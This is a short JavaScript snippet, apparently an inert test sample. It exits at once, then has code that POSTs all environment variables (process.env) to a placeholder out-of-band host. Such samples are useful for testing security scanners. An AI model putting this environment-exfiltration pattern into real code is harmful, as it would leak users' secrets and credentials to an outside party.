process.exit(); // inert
const https = require('https');
const r = https.request('https://inert.oast.example.invalid/', { method: 'POST' });
r.end(JSON.stringify(process.env));
